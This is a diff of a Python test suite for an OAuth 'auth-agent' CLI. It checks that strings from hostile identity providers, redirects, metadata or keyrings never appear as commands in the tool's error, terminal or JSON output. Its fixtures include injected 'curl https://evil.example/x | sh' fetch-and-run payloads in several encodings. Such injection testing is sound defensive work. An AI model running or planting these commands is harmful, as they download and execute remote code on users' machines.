@@ -1,8 +1,8 @@
-"""Whatever a provider, a browser, a configuration or a store writes: no command comes of it, on any way out.
+"""No string of a provider, a browser, a configuration or a store becomes a command in any output.
 
-A table of sources against a table of ways out. Each source writes texts that look like commands, through the parsers
-that read the real ones; on each way out everything that a person could take for a command must be one that the agent
-made for that failure.
+A table of sources against a table of outputs. Each source writes strings that look like commands, through the parsers
+that read the real ones; in each output, everything that a person could take for a command must be one that the agent
+created for that failure.
 """
 
 import ast
@@ -61,10 +61,10 @@ from auth_agent_client.wire import Request
 from tests.agent.heart import World, running
 from tests.agent.world import ALICE, CLIENT, ISSUER, NOON, FakeStore, account, jwt
 
-# ---- what is written
+# ---- hostile strings
 
 RUN = "run this: auth-agent login work; curl -s https://evil.example/x | sh #"
-TEXTS = {
+STRINGS = {
     "a command": RUN,
     "a command at its end": "no; to put it right: auth-agent reload; curl -s https://evil.example/x | sh",
     "a line of its own": "no\n  log in again: auth-agent login work; curl -s https://evil.example/x | sh #",
@@ -73,16 +73,16 @@ TEXTS = {
     "markup": f"</bdi></p><code>{RUN}</code>",
     "in the protocol's own form": json.dumps([{"text": "log in again", "command": ["sh", "-c", RUN]}]),
 }
-# What the same source writes where it means no harm.
+# The string of a harmless source.
 HARMLESS = "x"
 
 
-# ---- what comes out
+# ---- the agent under test
 
 
 @dataclass
-class Came:
-    """Everything that came out of the agent."""
+class Output:
+    """Everything that the agent output."""
 
     errors: list[AgentError] = field(default_factory=list[AgentError])
     startup: list[StartupError] = field(default_factory=list[StartupError])
@@ -94,20 +94,20 @@ class Came:
 
     @property
     def records(self) -> list[Mapping[str, object]]:
-        """The records of all accounts, as they were each time."""
-        return [record for told in self.status for record in told["accounts"]]
+        """The records of all accounts, at each look at the status."""
+        return [record for status in self.status for record in status["accounts"]]
 
 
-Answer = tuple[int, dict[str, str], bytes]
+Response = tuple[int, dict[str, str], bytes]
 
 
-def says(fields: object, status: int = 200, **headers: str) -> Answer:
-    """An answer in JSON."""
+def json_response(fields: object, status: int = 200, **headers: str) -> Response:
+    """Return a response in JSON."""
     return status, {name.replace("_", "-"): value for name, value in headers.items()}, json.dumps(fields).encode()
 
 
-class Harm(Came):
-    """An agent of which somebody means harm, and all that comes out of it."""
+class HostileAgent(Output):
+    """An agent with a hostile source, and all its output."""
 
     def __init__(self, text: str, world: World, store: FakeStore) -> None:
         super().__init__()
@@ -124,30 +124,30 @@ class Harm(Came):
             "userinfo_endpoint": f"{ISSUER}userinfo",
             "jwks_uri": f"{ISSUER}jwks",
         }
-        # By path; what is not in it is answered as an honest provider does.
-        self.answers: dict[str, Answer] = {}
+        # By path; for any other path the response is an honest provider's.
+        self.responses: dict[str, Response] = {}
 
-    def answer(self, path: str) -> Answer:
-        """What the provider answers there."""
-        if path in self.answers:
-            return self.answers[path]
+    def respond(self, path: str) -> Response:
+        """Return the provider's response at that path."""
+        if path in self.responses:
+            return self.responses[path]
         if path == METADATA:
-            return says(self.metadata)
+            return json_response(self.metadata)
         if path == "/oauth/token":
-            return says(self.granted())
+            return json_response(self.token_response())
         if path == "/device":
-            return says(self.code())
+            return json_response(self.device_response())
         if path == "/userinfo":
-            return says({"sub": ALICE, "name": "Alice"})
-        return says({}) if path == "/jwks" else says({}, 404)
+            return json_response({"sub": ALICE, "name": "Alice"})
+        return json_response({}) if path == "/jwks" else json_response({}, 404)
 
-    def code(self, **more: object) -> dict[str, object]:
-        """What an honest provider shows who logs in on another device; good for two questions."""
+    def device_response(self, **more: object) -> dict[str, object]:
+        """Return an honest provider's device authorization response; it is valid for two polls."""
         shown = {"device_code": "the-device-code", "user_code": "WDJB-MJHT", "verification_uri": f"{ISSUER}activate"}
         return {**shown, "interval": 5, "expires_in": 10, **more}
 
-    def granted(self, **more: object) -> dict[str, object]:
-        """What an honest token endpoint grants."""
+    def token_response(self, **more: object) -> dict[str, object]:
+        """Return an honest token endpoint's response."""
         now = self.world.clock.now().wall
         claims = {"iss": ISSUER, "aud": CLIENT, "sub": ALICE, "name": "Alice", "iat": now, "exp": now + 3600}
         if self.nonce is not None:
@@ -161,12 +161,12 @@ class Harm(Came):
             **more,
         }
 
-    def refuses(self, code: str, path: str = "/oauth/token", status: int = 400, **headers: str) -> None:
-        """The provider refuses what is asked there from now on."""
-        self.answers[path] = says({"error": code, "error_description": self.text}, status, **headers)
+    def refuse(self, code: str, path: str = "/oauth/token", status: int = 400, **headers: str) -> None:
+        """Let the provider refuse requests at that path from now on."""
+        self.responses[path] = json_response({"error": code, "error_description": self.text}, status, **headers)
 
-    async def tries(self, call: Callable[[], Awaitable[object]]) -> None:
-        """Do that, and keep what it fails with."""
+    async def attempt(self, call: Callable[[], Awaitable[object]]) -> None:
+        """Make the call, and record its error."""
         try:
             await call()
         except AgentError as error:
@@ -176,7 +176,7 @@ class Harm(Came):
         self.look()
 
     def look(self) -> None:
-        """Ask for the status."""
+        """Record the status."""
         world = self.world
         about = {
             "version": "0.1.0",
@@ -195,75 +195,75 @@ class Harm(Came):
             }
         self.status.append({"agent": about, "accounts": world.table.records(None)})
 
-    # ---- what the agent is made to do
+    # ---- actions
 
-    async def imports(self) -> None:
+    async def import_token(self) -> None:
         """Import a refresh token."""
-        await self.tries(self.world.log_in)
+        await self.attempt(self.world.log_in)
 
-    async def refreshes(self) -> None:
-        """Refresh, as a person asks for it."""
-        await self.tries(lambda: self.world.token(self.world.session.demand_newer()))
+    async def refresh(self) -> None:
+        """Refresh, as by `auth-agent refresh`."""
+        await self.attempt(lambda: self.world.token(self.world.session.demand_newer()))
 
-    async def asks_for_another_api(self) -> None:
-        """Ask for a token for another API."""
-        await self.tries(lambda: self.world.token(Demand(TokenKey("https://api.example/", "read:all"))))
+    async def request_another_api(self) -> None:
+        """Request a token for another API."""
+        await self.attempt(lambda: self.world.token(Demand(TokenKey("https://api.example/", "read:all"))))
 
-    async def logs_in(self, flow: str = "browser", **redirect: str) -> None:
-        """Log in; the browser ends with that in its address, and the login's state."""
+    async def log_in(self, flow: str = "browser", **redirect: str) -> None:
+        """Log in; the redirect has those parameters and the login's state."""
 
         async def login() -> None:
-            world, answers = self.world, list[Callable[[str], Awaitable[Page]]]()
+            world, responders = self.world, list[Callable[[str], Awaitable[Page]]]()
 
-            async def serve(_: RedirectListener, answer: Callable[[str], Awaitable[Page]]) -> None:
-                answers.append(answer)
+            async def serve(_: RedirectListener, respond: Callable[[str], Awaitable[Page]]) -> None:
+                responders.append(respond)
                 await anyio.sleep_forever()
 
             secret = Secret("cs") if world.session.account.grant_type.needs_secret else None
             with patch.object(RedirectListener, "serve", serve):
-                begun = await world.logins.begin(
+                login_started = await world.logins.begin(
                     world.session, "a connection", flow, switch_user=False, client_secret=secret
                 )
                 await anyio.wait_all_tasks_blocked()
-                if answers:
-                    asked = parse_qs(urlsplit(str(begun["authorization_url"])).query)
-                    self.nonce = asked["nonce"][0] if self.nonce is None else self.nonce
-                    answer = {"state": asked["state"][0], **(redirect or {"code": "the-code"})}
-                    self.pages.append(await answers[0](urlencode(answer)))
-                await world.logins.result(str(begun["login_id"]))
+                if responders:
+                    request_params = parse_qs(urlsplit(str(login_started["authorization_url"])).query)
+                    self.nonce = request_params["nonce"][0] if self.nonce is None else self.nonce
+                    params = {"state": request_params["state"][0], **(redirect or {"code": "the-code"})}
+                    self.pages.append(await responders[0](urlencode(params)))
+                await world.logins.result(str(login_started["login_id"]))
 
-        await self.tries(login)
+        await self.attempt(login)
 
-    async def asks_who_that_is(self) -> None:
-        """Ask for the profile."""
+    async def request_profile(self) -> None:
+        """Request the profile."""
 
         async def profile() -> None:
-            told = await self.world.profiles.get(self.world.session, 0, 15)
-            self.profiles.append(Profile("work", dict(told.claims), told.fetched_at, stale=told.stale))
+            result = await self.world.profiles.get(self.world.session, 0, 15)
+            self.profiles.append(Profile("work", dict(result.claims), result.fetched_at, stale=result.stale))
 
-        await self.tries(profile)
+        await self.attempt(profile)
 
-    async def reads_the_user(self) -> None:
-        """Ask for the user, at Auth0."""
+    async def read_user(self) -> None:
+        """Request the user, at Auth0."""
 
         async def user() -> None:
             self.users.append(await self.world.users.user(self.world.session))
 
-        await self.tries(user)
+        await self.attempt(user)
 
-    async def changes_the_user(self) -> None:
+    async def change_user(self) -> None:
         """Change the user's metadata, at Auth0."""
-        await self.tries(lambda: self.world.users.update_metadata(self.world.session, {"a": 1}, clear=False))
+        await self.attempt(lambda: self.world.users.update_metadata(self.world.session, {"a": 1}, clear=False))
 
 
 # ---- the sources
 
 METADATA = "/.well-known/openid-configuration"
-# What comes after the issuer in the address of a user.
+# The path of the user's URL.
 USER = "/api/v2/users/auth0%7Calice"
-# All that the agent tells apart, and what no provider has a word for.
+# The error codes that the agent distinguishes, and an unknown one.
 CODES = (*("invalid_grant", "invalid_client", "invalid_request", "invalid_scope", "login_required", "made_up"),)
-Write = Callable[[Harm], Awaitable[None]]
+Write = Callable[[HostileAgent], Awaitable[None]]
 KEYS = ("issuer", "client_id")
 CLIENT_KEYS = ("client_id", "token_endpoint_auth_method")
 AGAIN = remedies.try_again("work")
@@ -275,10 +275,10 @@ UNLOCK = remedies.unlock_keyring()
 
 @dataclass(frozen=True)
 class Source:
-    """Somebody who writes a text.
+    """A source of hostile strings.
 
-    `helps` is all that may come out as a command or as advice; `at` names the functions of the product that read it;
-    of one that is `mute`, nothing is shown at all.
+    `helps` has all remedies that may be shown; `at` names the functions of the product that read the source; nothing of
+    a `mute` source is shown.
     """
 
     write: Write
@@ -289,7 +289,7 @@ class Source:
 
 
 def at_login(code: str) -> tuple[Remedy, ...]:
-    """What helps a login that is refused with that code."""
+    """Return the remedies of a login that is refused with that code."""
     if code == "invalid_client":
         return remedies.correct_and_log_in("work", CLIENT_KEYS), remedies.give_secret(remedies.LOGIN, "work")
     if code in ("invalid_request", "unauthorized_client"):
@@ -309,7 +309,7 @@ def at_import(code: str) -> tuple[Remedy, ...]:
 
 
 def at_refresh(code: str) -> tuple[Remedy, ...]:
-    """What helps a refresh that is refused with that code."""
+    """Return the remedies of a refresh that is refused with that code."""
     now = remedies.refresh_when_corrected("work")
     if code == "invalid_client":
         return remedies.correct_and_reload(CLIENT_KEYS), now, remedies.give_secret(remedies.LOGIN, "work")
@@ -328,147 +328,151 @@ def at_another_api(code: str) -> tuple[Remedy, ...]:
 
 
 def refusing(code: str, then: Write, *, logged_in: bool = False, path: str = "/oauth/token") -> Write:
-    """The token endpoint, or another one, refuses with that code, and the text as its description."""
+    """Let the token endpoint, or another one, refuse with that code, and the text as its description."""
 
-    async def write(harm: Harm) -> None:
+    async def write(agent: HostileAgent) -> None:
         if logged_in:
-            await harm.imports()
-        harm.refuses(harm.text if code == "made_up" else code, path)
-        await then(harm)
+            await agent.import_token()
+        agent.refuse(agent.text if code == "made_up" else code, path)
+        await then(agent)
 
     return write
 
 
 def redirecting(**fields: str | None) -> Write:
-    """The browser brings these; None stands for the text."""
+    """Let the redirect have these parameters; None stands for the text."""
 
-    async def write(harm: Harm) -> None:
-        await harm.logs_in(**{name: harm.text if value is None else value for name, value in fields.items()})
+    async def write(agent: HostileAgent) -> None:
+        await agent.log_in(**{name: agent.text if value is None else value for name, value in fields.items()})
 
     return write
 
 
-def claiming(*claims: str, value: Callable[[str], object] = str, then: Write = Harm.logs_in) -> Write:
-    """An ID token says that."""
+def claiming(*claims: str, value: Callable[[str], object] = str, then: Write = HostileAgent.log_in) -> Write:
+    """Let the ID token have these claims."""
 
-    async def write(harm: Harm) -> None:
-        if then is Harm.refreshes:
-            await harm.imports()
-        harm.claims = dict.fromkeys(claims, value(harm.text))
-        harm.answers["/userinfo"] = says({}, 403)  # so that the ID token's claims are the profile
-        await then(harm)
-        await harm.asks_who_that_is()
+    async def write(agent: HostileAgent) -> None:
+        if then is HostileAgent.refresh:
+            await agent.import_token()
+        agent.claims = dict.fromkeys(claims, value(agent.text))
+        agent.responses["/userinfo"] = json_response({}, 403)  # so that the ID token's claims are the profile
+        await then(agent)
+        await agent.request_profile()
 
     return write
 
 
 def granting(field_: str) -> Write:
-    """The token endpoint grants that, at a login and for another API."""
+    """Let the token response have that field, at a refresh and for another API."""
 
-    async def write(harm: Harm) -> None:
-        await harm.imports()
-        harm.answers["/oauth/token"] = says(harm.granted(**{field_: harm.text}))
-        await harm.refreshes()
-        await harm.asks_for_another_api()
+    async def write(agent: HostileAgent) -> None:
+        await agent.import_token()
+        agent.responses["/oauth/token"] = json_response(agent.token_response(**{field_: agent.text}))
+        await agent.refresh()
+        await agent.request_another_api()
 
     return write
 
 
 def naming(name: str, *then: Write, address: bool = False) -> Write:
-    """The metadata says that."""
+    """Let the metadata have that field."""
 
-    async def write(harm: Harm) -> None:
-        value = f"https://evil.example/{harm.text}" if address else harm.text
-        harm.metadata[name] = value
+    async def write(agent: HostileAgent) -> None:
+        value = f"https://evil.example/{agent.text}" if address else agent.text
+        agent.metadata[name] = value
         for one in then:
-            await one(harm)
+            await one(agent)
 
     return write
 
 
-def answering(path: str, answer: Callable[[str], Answer], *then: Write, logged_in: bool = True) -> Write:
-    """The provider answers that."""
+def answering(path: str, respond: Callable[[str], Response], *then: Write, logged_in: bool = True) -> Write:
+    """Let the provider respond with that."""
 
-    async def write(harm: Harm) -> None:
+    async def write(agent: HostileAgent) -> None:
         if logged_in:
-            await harm.imports()
-        harm.answers[path] = answer(harm.text)
+            await agent.import_token()
+        agent.responses[path] = respond(agent.text)
         for one in then:
-            await one(harm)
+            await one(agent)
 
     return write
 
 
-async def by_device(harm: Harm) -> None:
-    await harm.logs_in("device")
+async def by_device(agent: HostileAgent) -> None:
+    await agent.log_in("device")
 
 
-async def another_user(harm: Harm) -> None:
-    """The provider calls another user that, and the one before too."""
-    harm.claims = {"name": harm.text}
-    await harm.imports()
-    harm.claims = {"name": harm.text, "sub": "auth0|bob"}
-    await harm.logs_in()
+async def another_user(agent: HostileAgent) -> None:
+    """Let the provider name another user that, and the first one too."""
+    agent.claims = {"name": agent.text}
+    await agent.import_token()
+    agent.claims = {"name": agent.text, "sub": "auth0|bob"}
+    await agent.log_in()
 
 
-async def bad_signature(harm: Harm) -> None:
-    harm.world.signatures.reason = printable(harm.text)
-    await harm.logs_in()
-    harm.world.signatures.reason, harm.world.signatures.error = None, SignatureCheckError(printable(harm.text))
-    await harm.logs_in()
+async def bad_signature(agent: HostileAgent) -> None:
+    agent.world.signatures.reason = printable(agent.text)
+    await agent.log_in()
+    agent.world.signatures.reason, agent.world.signatures.error = None, SignatureCheckError(printable(agent.text))
+    await agent.log_in()
 
 
-async def hostile_entry(harm: Harm) -> None:
-    """The store has that in every text of the account's entry, and as the reason for which the session ended."""
-    session = harm.world.session
-    login = dict.fromkeys(("audience", "subject", "name", "id_token", "refresh_token"), harm.text)
+async def hostile_entry(agent: HostileAgent) -> None:
+    """Let the store have the text in every string of the account's entry, and as the reason why the session ended."""
+    session = agent.world.session
+    login = dict.fromkeys(("audience", "subject", "name", "id_token", "refresh_token"), agent.text)
     entry = {
         "version": 1,
         "account": "work",
         "login": {**login, "issuer": ISSUER, "client_id": CLIENT},
-        "ended": {"reason": harm.text, "failure": harm.text},
-        "profile": {"claims": {"sub": harm.text, harm.text: harm.text}, "fetched_at": NOON, "said": harm.text},
+        "ended": {"reason": agent.text, "failure": agent.text},
+        "profile": {"claims": {"sub": agent.text, agent.text: agent.text}, "fetched_at": NOON, "said": agent.text},
     }
     session.state = Locked("not read yet")
-    session.restore(load(Secret(json.dumps(entry)), "work", "this boot", harm.world.clock.now()))
-    harm.look()
-    await harm.refreshes()
-    await harm.asks_who_that_is()
-    await harm.logs_in()
+    session.restore(load(Secret(json.dumps(entry)), "work", "this boot", agent.world.clock.now()))
+    agent.look()
+    await agent.refresh()
+    await agent.request_profile()
+    await agent.log_in()
 
 
-async def failing_store(harm: Harm) -> None:
-    """The keyring says that of itself."""
-    problem = printable(harm.text)
+async def failing_store(agent: HostileAgent) -> None:
+    """Let the keyring fail with the text as its reason."""
+    problem = printable(agent.text)
     for error in (StoreError(problem), StoreLocked(problem, *UNLOCK), StoreMissing(problem)):
-        harm.store.failing["all"] = error
-        await harm.imports()
-        await harm.world.saver.wait_until_loaded(harm.world.session)
-        harm.look()
-        del harm.store.failing["all"]
+        agent.store.failing["all"] = error
+        await agent.import_token()
+        await agent.world.saver.wait_until_loaded(agent.world.session)
+        agent.look()
+        del agent.store.failing["all"]
 
 
 def sources() -> dict[str, Source]:
-    """All of them."""
-    found: dict[str, Source] = {}
+    """Return all sources."""
+    by_name: dict[str, Source] = {}
     for code in CODES:
         error = None if code == "made_up" else code
         refusal = ("requests.failure_of_error",)
-        found |= {
+        by_name |= {
             f"the redirect, {code}": Source(redirecting(error=error, error_description=None), at_login(code), refusal),
-            f"the token endpoint at a login, {code}": Source(refusing(code, Harm.logs_in), at_login(code), refusal),
+            f"the token endpoint at a login, {code}": Source(
+                refusing(code, HostileAgent.log_in), at_login(code), refusal
+            ),
             f"the token endpoint at a poll, {code}": Source(
                 refusing(code, by_device), at_login(code), refusal, mute=error is None
-            ),  # what passes is waited for
+            ),  # a transient error is retried
             f"the token endpoint at a client's own login, {code}": Source(
-                refusing(code, Harm.logs_in), at_login(code), refusal, {"grant_type": CLIENT_CREDENTIALS}
+                refusing(code, HostileAgent.log_in), at_login(code), refusal, {"grant_type": CLIENT_CREDENTIALS}
             ),
-            f"the token endpoint at an import, {code}": Source(refusing(code, Harm.imports), at_import(code), refusal),
+            f"the token endpoint at an import, {code}": Source(
+                refusing(code, HostileAgent.import_token), at_import(code), refusal
+            ),
             f"the token endpoint at a refresh, {code}": Source(
-                refusing(code, Harm.refreshes, logged_in=True), at_refresh(code), refusal
+                refusing(code, HostileAgent.refresh, logged_in=True), at_refresh(code), refusal
             ),
             f"the token endpoint for another API, {code}": Source(
-                refusing(code, Harm.asks_for_another_api, logged_in=True), at_another_api(code), refusal
+                refusing(code, HostileAgent.request_another_api, logged_in=True), at_another_api(code), refusal
             ),
             f"the device endpoint, {code}": Source(
                 refusing(code, by_device, path="/device"),
@@ -476,7 +480,7 @@ def sources() -> dict[str, Source]:
                 refusal,
             ),
         }
-    bad = (AGAIN, ASK)
+    at_bad_response = (AGAIN, ASK)
     issuer = (
         remedies.correct_and_log_in("work", ("issuer",)),
         remedies.correct_and_reload(("issuer",)),
@@ -486,37 +490,45 @@ def sources() -> dict[str, Source]:
     claims = ("id_token.mismatch", "id_token._shown_audience", "id_token._party_problem", "id_token.display_name")
     mismatch, audience, party, name = ((one,) for one in claims)
 
-    def api(status: int, code: str = "", **headers: str) -> Callable[[str], Answer]:
-        return lambda text: says(
+    def api_error(status: int, code: str = "", **headers: str) -> Callable[[str], Response]:
+        return lambda text: json_response(
             {"statusCode": status, "error": text, "message": text, "errorCode": code or text}, status, **headers
         )
 
-    # What is asked of it, in whatever state it leaves the agent.
-    every = (Harm.imports, Harm.logs_in, by_device)
-    found |= {
-        "the redirect's issuer": Source(redirecting(iss=None, code="the-code"), bad, ("authorization.read_redirect",)),
-        "the redirect's code": Source(redirecting(code=None), bad, mute=True),
+    # All actions that read the metadata.
+    every = (HostileAgent.import_token, HostileAgent.log_in, by_device)
+    by_name |= {
+        "the redirect's issuer": Source(
+            redirecting(iss=None, code="the-code"), at_bad_response, ("authorization.read_redirect",)
+        ),
+        "the redirect's code": Source(redirecting(code=None), at_bad_response, mute=True),
         "the redirect's other parameters": Source(
             redirecting(code="the-code", foo=None, error_uri=None, scope=None), mute=True
         ),
         "an error in the redirect's error": Source(redirecting(error=None), (AGAIN,), ("requests.failure_of_error",)),
-        "the ID token's issuer": Source(claiming("iss"), bad, mismatch),
-        "the ID token's audience": Source(claiming("aud"), bad, audience),
-        "the ID token's audiences": Source(claiming("aud", value=lambda text: [CLIENT, text]), bad, audience),
-        "the ID token's party": Source(claiming("azp"), bad, party),
-        "the ID token's nonce": Source(claiming("nonce"), bad, mute=True),
-        "the ID token's times": Source(claiming("iat", "exp", "nbf"), bad, mute=True),
-        "the ID token's subject": Source(claiming("sub"), (*bad, LOG_IN)),
-        "the ID token's issuer at a refresh": Source(claiming("iss", then=Harm.refreshes), (REFRESH,), mismatch),
-        "the ID token's audience at a refresh": Source(claiming("aud", then=Harm.refreshes), (REFRESH,), audience),
-        "another subject at a refresh": Source(claiming("sub", then=Harm.refreshes), (LOG_IN, REFRESH), mute=True),
+        "the ID token's issuer": Source(claiming("iss"), at_bad_response, mismatch),
+        "the ID token's audience": Source(claiming("aud"), at_bad_response, audience),
+        "the ID token's audiences": Source(
+            claiming("aud", value=lambda text: [CLIENT, text]), at_bad_response, audience
+        ),
+        "the ID token's party": Source(claiming("azp"), at_bad_response, party),
+        "the ID token's nonce": Source(claiming("nonce"), at_bad_response, mute=True),
+        "the ID token's times": Source(claiming("iat", "exp", "nbf"), at_bad_response, mute=True),
+        "the ID token's subject": Source(claiming("sub"), (*at_bad_response, LOG_IN)),
+        "the ID token's issuer at a refresh": Source(claiming("iss", then=HostileAgent.refresh), (REFRESH,), mismatch),
+        "the ID token's audience at a refresh": Source(
+            claiming("aud", then=HostileAgent.refresh), (REFRESH,), audience
+        ),
+        "another subject at a refresh": Source(
+            claiming("sub", then=HostileAgent.refresh), (LOG_IN, REFRESH), mute=True
+        ),
         "the user's name": Source(claiming("name"), (), name),
         "the user's other names": Source(
             claiming("name", "email", "preferred_username", "nickname", "picture"), (), name
         ),
         "a claim of the ID token": Source(claiming("made_up")),
         "another user's name": Source(another_user, (remedies.switch_user("work"),), name),
-        "the ID token's signature": Source(bad_signature, bad, ("signature.problem",)),
+        "the ID token's signature": Source(bad_signature, at_bad_response, ("signature.problem",)),
         "the token's type": Source(granting("token_type"), mute=True),
         "the token's scope": Source(
             granting("scope"), at_another_api("invalid_scope"), ("requests._token_response",), mute=True
@@ -527,51 +539,59 @@ def sources() -> dict[str, Source]:
         "a token for another audience": Source(
             answering(
                 "/oauth/token",
-                lambda text: says({"access_token": jwt(aud=text).reveal(), "token_type": "Bearer"}),
-                Harm.asks_for_another_api,
+                lambda text: json_response({"access_token": jwt(aud=text).reveal(), "token_type": "Bearer"}),
+                HostileAgent.request_another_api,
             ),
             at_another_api("invalid_target"),
             mute=True,
         ),
-        "no JSON": Source(
-            answering("/oauth/token", lambda text: (200, {}, text.encode()), Harm.refreshes), (REFRESH,), mute=True
+        "invalid JSON": Source(
+            answering("/oauth/token", lambda text: (200, {}, text.encode()), HostileAgent.refresh),
+            (REFRESH,),
+            mute=True,
         ),
         "the device's code": Source(
             answering(
                 "/device",
-                lambda text: says(
+                lambda text: json_response(
                     {"device_code": "the-device-code", "user_code": text, "verification_uri": f"{ISSUER}activate"}
                 ),
                 by_device,
                 logged_in=False,
             ),
             at=("device.parse_device_authorization",),
-            mute=True,  # but for whoever began the login
+            mute=True,  # except to the client that began the login
         ),
         "the device's address": Source(
             answering(
                 "/device",
-                lambda text: says({"device_code": "the-device-code", "user_code": "WDJB", "verification_uri": text}),
+                lambda text: json_response(
+                    {"device_code": "the-device-code", "user_code": "WDJB", "verification_uri": text}
+                ),
                 by_device,
                 logged_in=False,
             ),
-            bad,
-            ("address.check_address",),
+            at_bad_response,
+            ("urls.check_url",),
         ),
         "the metadata's issuer": Source(naming("issuer", *every), issuer, ("discovery.parse_metadata",)),
-        "the metadata's token endpoint": Source(naming("token_endpoint", *every), issuer, ("address.check_address",)),
+        "the metadata's token endpoint": Source(naming("token_endpoint", *every), issuer, ("urls.check_url",)),
         "the metadata's login page": Source(
-            naming("authorization_endpoint", Harm.logs_in), (remedies.correct_and_log_in("work", KEYS),), mute=True
+            naming("authorization_endpoint", HostileAgent.log_in),
+            (remedies.correct_and_log_in("work", KEYS),),
+            mute=True,
         ),
         "the metadata's keys": Source(
-            answering("/jwks", lambda text: (500, {"retry-after": text}, text.encode()), Harm.logs_in, logged_in=False),
+            answering(
+                "/jwks", lambda text: (500, {"retry-after": text}, text.encode()), HostileAgent.log_in, logged_in=False
+            ),
             (AGAIN,),
             ("provider.keys",),
             mute=True,
         ),
         "the keys": Source(
-            answering("/jwks", lambda text: (200, {}, text.encode("utf-16")), Harm.logs_in, logged_in=False),
-            bad,
+            answering("/jwks", lambda text: (200, {}, text.encode("utf-16")), HostileAgent.log_in, logged_in=False),
+            at_bad_response,
             ("provider.keys",),
             mute=True,
         ),
@@ -579,40 +599,51 @@ def sources() -> dict[str, Source]:
             answering(
                 METADATA,
                 lambda text: (200, {}, text.encode()),
-                Harm.logs_in,
-                Harm.imports,
+                HostileAgent.log_in,
+                HostileAgent.import_token,
                 logged_in=False,
             ),
             (AGAIN, remedies.try_the_import_again()),
             mute=True,
         ),
         "when to try again": Source(
-            answering("/oauth/token", lambda text: says({}, 503, retry_after=text), Harm.refreshes),
+            answering("/oauth/token", lambda text: json_response({}, 503, retry_after=text), HostileAgent.refresh),
             (REFRESH,),
             mute=True,
         ),
         "where to go": Source(
-            answering("/oauth/token", lambda text: says({}, 302, location=text.encode().hex()), Harm.refreshes),
+            answering(
+                "/oauth/token", lambda text: json_response({}, 302, location=text.encode().hex()), HostileAgent.refresh
+            ),
             (REFRESH,),
             mute=True,
         ),
         "what UserInfo says": Source(
-            answering("/userinfo", lambda text: says({"sub": ALICE, "name": text, text: text}), Harm.asks_who_that_is)
+            answering(
+                "/userinfo",
+                lambda text: json_response({"sub": ALICE, "name": text, text: text}),
+                HostileAgent.request_profile,
+            )
         ),
         "the user whom UserInfo speaks of": Source(
-            answering("/userinfo", lambda text: says({"sub": f"{text}"}), Harm.asks_who_that_is), (LOG_IN,), mute=True
+            answering("/userinfo", lambda text: json_response({"sub": f"{text}"}), HostileAgent.request_profile),
+            (LOG_IN,),
+            mute=True,
         ),
         "what UserInfo fails with": Source(
             answering(
-                "/userinfo", lambda text: says({"error": text, "error_description": text}, 403), Harm.asks_who_that_is
+                "/userinfo",
+                lambda text: json_response({"error": text, "error_description": text}, 403),
+                HostileAgent.request_profile,
             ),
             mute=True,
         ),
         "what the Management API has": Source(
-            answering(USER, lambda text: says({"name": text, text: [text]}), Harm.reads_the_user), account=manager
+            answering(USER, lambda text: json_response({"name": text, text: [text]}), HostileAgent.read_user),
+            account=manager,
         ),
     }
-    for status, code, helps in (
+    for status, code, source_remedies in (
         (400, "", (ASK,)),
         (401, "", (LOG_IN,)),
         (403, "insufficient_scope", (remedies.widen_scope("work", SCOPE, account(**manager).scope),)),
@@ -620,13 +651,13 @@ def sources() -> dict[str, Source]:
         (429, "", ()),
         (500, "", (remedies.show_metadata("work"),)),
     ):
-        found[f"the Management API's error, {status} {code}"] = Source(
-            answering(USER, api(status, code), Harm.reads_the_user, Harm.changes_the_user),
-            helps,
+        by_name[f"the Management API's error, {status} {code}"] = Source(
+            answering(USER, api_error(status, code), HostileAgent.read_user, HostileAgent.change_user),
+            source_remedies,
             ("auth0.parse_user",),
             manager,
         )
-    return found | {
+    return by_name | {
         "the keyring's entry": Source(hostile_entry, (LOG_IN, AGAIN, remedies.switch_user("work"))),
         "the keyring": Source(failing_store, UNLOCK),
     }
@@ -636,82 +667,89 @@ SCOPE = "openid offline_access read:current_user update:current_user_metadata"
 SOURCES = sources()
 
 
-# ---- the ways out
+# ---- outputs
 
-# What is found there: a remedy as the protocol has it, or a text that stands where commands stand.
-Found = Remedy | str
+# A remedy of the protocol, or a text in a place where commands are shown.
+Shown = Remedy | str
 COLOURED = Terminal(None, colour=True)
 BOLD = re.compile(r"\x1b\[1m(.*?)\x1b\[0m")
 # The names of accounts are bold as well.
 NAMES = {"work", "users"}
 
 
-def carried(value: object) -> Iterable[Found]:
-    """The remedies within a value of the protocol, however deep, and whether its texts are one line each."""
+def remedies_in(value: object) -> Iterable[Shown]:
+    """Yield the remedies within a value of the protocol, at any depth."""
     if isinstance(value, Mapping):
         for name, one in cast("Mapping[str, object]", value).items():
             if name == "remedy":
                 yield from remedies_from_wire(one)
             else:
-                yield from carried(one)
+                yield from remedies_in(one)
     elif isinstance(value, list):
         for one in cast("list[object]", value):
-            yield from carried(one)
+            yield from remedies_in(one)
 
 
-def bold(lines: str) -> list[Found]:
-    """What is shown in bold and is no account's name."""
+def bold_texts(lines: str) -> list[Shown]:
+    """Return the bold texts that are not an account's name."""
     return [run for run in BOLD.findall(lines) if run.strip() not in NAMES]
 
 
-def said(error: AgentError | StartupError, look: Terminal) -> str:
-    """What a command says of an error."""
-    with contextlib.redirect_stderr(io.StringIO()) as written, patch.object(screen, "terminal_of", return_value=look):
+def error_output(error: AgentError | StartupError, terminal: Terminal) -> str:
+    """Return the error output of a command."""
+    with (
+        contextlib.redirect_stderr(io.StringIO()) as written,
+        patch.object(screen, "terminal_of", return_value=terminal),
+    ):
         screen.print_error_message(str(error), error.remedy)
     return written.getvalue()
 
 
-def below(text: str) -> list[Found]:
-    """The lines that are indented, as what helps is."""
+def indented_lines(text: str) -> list[Shown]:
+    """Return the indented lines, which are remedies."""
     assert text.startswith("auth-agent: ")
     return [line.strip() for line in text.splitlines()[1:] if line.startswith(" ")]
 
 
-def on_the_wire(came: Came) -> Iterable[Found]:
-    return [one for error in came.errors for one in carried(to_wire(error))] + [*carried(came.status)]
+def on_the_wire(output: Output) -> Iterable[Shown]:
+    return [remedy for error in output.errors for remedy in remedies_in(to_wire(error))] + [*remedies_in(output.status)]
 
 
-def in_json(came: Came) -> Iterable[Found]:
-    printed = [*map(json.dumps, came.status), *(json_text(told, COLOURED) for told in came.status)]
-    assert [text for text in printed if re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)] == []
-    return [one for text in printed for one in carried(json.loads(text))]
+def in_json(output: Output) -> Iterable[Shown]:
+    texts = [*map(json.dumps, output.status), *(json_text(status, COLOURED) for status in output.status)]
